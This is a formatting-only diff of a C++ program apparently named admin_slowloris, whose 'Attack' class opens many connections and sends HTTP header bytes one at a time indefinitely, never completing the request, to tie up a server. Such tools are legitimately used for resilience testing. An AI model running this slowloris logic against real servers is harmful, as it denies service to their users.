@@ -186,7 +186,9 @@ class Attack {
     ::close(ep_);
   }
 
-  void start() { thread_ = std::thread([this] { loop(); }); }
+  void start() {
+    thread_ = std::thread([this] { loop(); });
+  }
   void stop() {
     stop_ = true;
     if (thread_.joinable()) thread_.join();
@@ -309,9 +311,10 @@ class Attack {
         Conn& c = conns_[i];
         if (c.fd < 0 || !c.connected || !c.slow || c.next > now) continue;
         // The request line and Host, then header lines forever (cycling), never "\r\n\r\n".
-        const size_t k = c.sent < slow_bytes_.size()
-                             ? c.sent
-                             : slow_prefix_ + (c.sent - slow_prefix_) % (slow_bytes_.size() - slow_prefix_);
+        const size_t k =
+            c.sent < slow_bytes_.size()
+                ? c.sent
+                : slow_prefix_ + (c.sent - slow_prefix_) % (slow_bytes_.size() - slow_prefix_);
         const char byte = slow_bytes_[k];
         if (::send(c.fd, &byte, 1, MSG_NOSIGNAL | MSG_DONTWAIT) == 1) {
           ++c.sent;
@@ -439,8 +442,7 @@ int main(int argc, char** argv) {
   }
   const auto needed = static_cast<rlim_t>(o.idle + o.slowloris + 64);
   if (rl.rlim_cur < needed) {
-    std::cerr << "admin_slowloris: RLIMIT_NOFILE is " << rl.rlim_cur << ", need " << needed
-              << "\n";
+    std::cerr << "admin_slowloris: RLIMIT_NOFILE is " << rl.rlim_cur << ", need " << needed << "\n";
     return 2;
   }
   std::cout << "target=" << o.host << ":" << o.port << " idle=" << o.idle
